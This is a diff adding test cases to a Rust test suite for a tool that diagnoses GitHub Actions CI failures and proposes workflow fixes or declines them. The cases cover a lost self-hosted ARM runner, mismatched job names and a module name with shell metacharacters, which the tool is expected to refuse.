+            "on: push\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - run: make test\n  build-arm:\n    runs-on: [self-hosted, linux, arm64]\n    steps:\n      - uses: actions/checkout@v4\n      - run: make\n  all-green:\n    if: always()\n    needs: [test, build-arm]\n    runs-on: ubuntu-latest\n    steps:\n      - run: test \"${{ contains(needs.*.result, 'failure') }}\" = false\n",
+        )],
+        workflow: Some(CI),
+        job: "build-arm",
+        step: "Run make",
+        lines: LOST_RUNNER,
+        want: fix(&[CI], &["continue-on-error: true"]),
+    },
+    // ---- hostile input ----
+    Case {
+        name: "a module name with shell metacharacters",
+        files: &[(CI, PYTHON_JOB), REQS],
+        workflow: Some(CI),
+        job: "test",
+        step: "Tests",
+        lines: HOSTILE_MODULE,
+        want: Want::Declined(""),
+    },
+    Case {
+        name: "a job name that is not in the workflow",
+        files: &[(CI, PANDOC_JOB)],
+        workflow: Some(CI),
+        job: "deploy",
+        step: "Run pandoc README.md -o out.html",
+        lines: PANDOC_MISSING,
+        want: Want::Declined(""),
+    },
+    Case {
+        name: "a job name sharing only the literal prefix of a `name:` template",
+        files: &[(
+            CI,
+            "on: push\njobs:\n  test:\n    name: Test ${{ matrix.os }}\n    strategy:\n      matrix:\n        os: [ubuntu-latest, macos-latest]\n    runs-on: ${{ matrix.os }}\n    steps:\n      - uses: actions/checkout@v4\n      - name: Docs\n        run: pandoc README.md -o out.html\n",
+        )],
+        workflow: Some(CI),
+        job: "Test coverage",
+        step: "Docs",
+        lines: PANDOC_MISSING,
+        want: Want::Declined(""),
+    },
+];
+
+#[test]
+fn round_three_shapes_get_the_right_fix_or_a_reasoned_refusal() {
+    let results: Vec<(&str, Result<String, String>)> = ROUND_3.iter().map(|c| (c.name, check(c))).collect();
+    for (name, r) in &results {
+        match r {
+            Ok(how) => println!("ok   {name}: {how}"),
+            Err(why) => println!("MISS {name}: {why}"),
+        }
+    }
+    let wrong = results
+        .iter()
+        .filter(|(_, r)| r.as_ref().is_err_and(|r| r.starts_with("WRONG")))
+        .count();
+    let misses: Vec<String> = results
+        .iter()
+        .filter_map(|(n, r)| r.as_ref().err().map(|r| format!("- {n}: {r}")))
+        .collect();
+    assert!(
+        misses.is_empty(),
+        "{}/{} right, {wrong} wrong fixes; misses:\n{}",
+        ROUND_3.len() - misses.len(),
+        ROUND_3.len(),
         misses.join("\n")
     );
 }
